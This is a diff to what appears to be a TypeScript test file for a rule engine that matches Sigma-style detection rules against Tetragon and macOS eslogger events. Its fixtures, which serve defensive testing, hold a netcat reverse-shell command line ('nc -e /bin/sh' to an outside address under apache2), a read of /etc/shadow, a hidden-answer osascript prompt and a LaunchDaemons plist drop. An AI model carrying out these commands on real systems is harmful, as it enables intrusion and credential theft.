@@ -39,6 +39,21 @@ const defend = (kind: string, action: string, more: Event, os = 'windows') => ({
 })
 const POWERSHELL = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe'
 
+const tetragon = (kind: string, more: Event, binary = '/usr/bin/nc') => ({
+  [kind]: {
+    process: { pid: 7, uid: 0, binary, arguments: '-e /bin/sh 203.0.113.9 443' },
+    parent: { pid: 6, binary: '/usr/sbin/apache2', arguments: '-k start' },
+    ...more,
+  },
+  node_name: 'node1',
+  time: '2026-03-03T10:00:00Z',
+})
+const eslogger = (event_type: number, event: Event) => ({
+  ...{ event_type, event, time: '2026-03-03T10:00:00Z' },
+  process: { audit_token: { pid: 5, euid: 501 }, ppid: 1, executable: { path: '/bin/zsh' } },
+})
+const OSASCRIPT = { audit_token: { pid: 5 }, executable: { path: '/usr/bin/osascript' } }
+
 const CASES: [logsource: string, selection: Record<string, unknown>, event: Event][] = [
   [
     'windows/process_creation',
@@ -148,6 +163,42 @@ const CASES: [logsource: string, selection: Record<string, unknown>, event: Even
     { 'Image|endswith': '/bash' },
     defend('process', 'exec', { process: { executable: '/usr/bin/bash' } }, 'linux'),
   ],
+  [
+    'linux/process_creation',
+    {
+      'Image|endswith': '/nc',
+      'CommandLine|startswith': 'nc -e ',
+      'ParentImage|endswith': '/apache2',
+      User: 'root',
+    },
+    tetragon('process_exec', {}),
+  ],
+  [
+    'linux/network_connection',
+    { 'Image|endswith': '/nc', DestinationIp: '203.0.113.9', DestinationPort: 443 },
+    tetragon('process_kprobe', {
+      ...{ function_name: 'tcp_connect' },
+      args: [{ sock_arg: { saddr: '192.0.2.5', daddr: '203.0.113.9', dport: 443 } }],
+    }),
+  ],
+  [
+    'macos/process_creation',
+    {
+      'Image|endswith': '/osascript',
+      'CommandLine|contains|all': [' -e ', 'hidden answer'],
+      'ParentImage|endswith': '/zsh',
+    },
+    eslogger(9, { exec: { target: OSASCRIPT, args: ['osascript', '-e', 'with hidden answer'] } }),
+  ],
+  [
+    'macos/file_event',
+    { 'TargetFilename|startswith': '/Library/LaunchDaemons/', 'Image|endswith': '/zsh' },
+    eslogger(13, {
+      create: {
+        destination: { new_path: { dir: { path: '/Library/LaunchDaemons' }, filename: 'a.plist' } },
+      },
+    }),
+  ],
 ]
 
 for (const [logsource, selection, event] of CASES) {
@@ -190,6 +241,33 @@ const NEIGHBOURS: [string, logsource: string, selection: Record<string, unknown>
         'linux',
       ),
     ],
+    [
+      'the end of a process of Tetragon',
+      'linux/process_creation',
+      { 'Image|endswith': '/nc' },
+      tetragon('process_exit', { signal: 'SIGKILL' }),
+    ],
+    [
+      'a file that is read',
+      'linux/file_event',
+      { 'Image|endswith': '/nc' },
+      tetragon('process_kprobe', {
+        ...{ function_name: 'security_file_permission' },
+        args: [{ file_arg: { path: '/etc/shadow' } }],
+      }),
+    ],
+    [
+      'a program of macOS for a rule of Linux',
+      'linux/process_creation',
+      { 'Image|endswith': '/osascript' },
+      eslogger(9, { exec: { target: OSASCRIPT, args: ['osascript'] } }),
+    ],
+    [
+      'a copy of a process that is not another program yet',
+      'macos/process_creation',
+      { 'Image|endswith': '/zsh' },
+      eslogger(11, { fork: { child: OSASCRIPT } }),
+    ],
   ]
 
 for (const [what, logsource, selection, event] of NEIGHBOURS) {
@@ -206,6 +284,12 @@ test('what Falcon says in words that every object has is nothing that is known',
     assert.equal(fields['process.Ext.token.integrity_level_name'], undefined)
     assert.equal(fields.Details, name === 'AsepValueUpdate' ? 'a' : undefined)
   }
+})
+
+test('what stands among the arguments of a program and is no text is left out', () => {
+  const args = ['osascript', { toString: 1 }, '-']
+  const { fields } = read(eslogger(9, { exec: { target: OSASCRIPT, args } }))
+  assert.equal(fields['process.command_line'], 'osascript -')
 })
 
 test('who connected from outside is the source, over IPv6 too', () => {
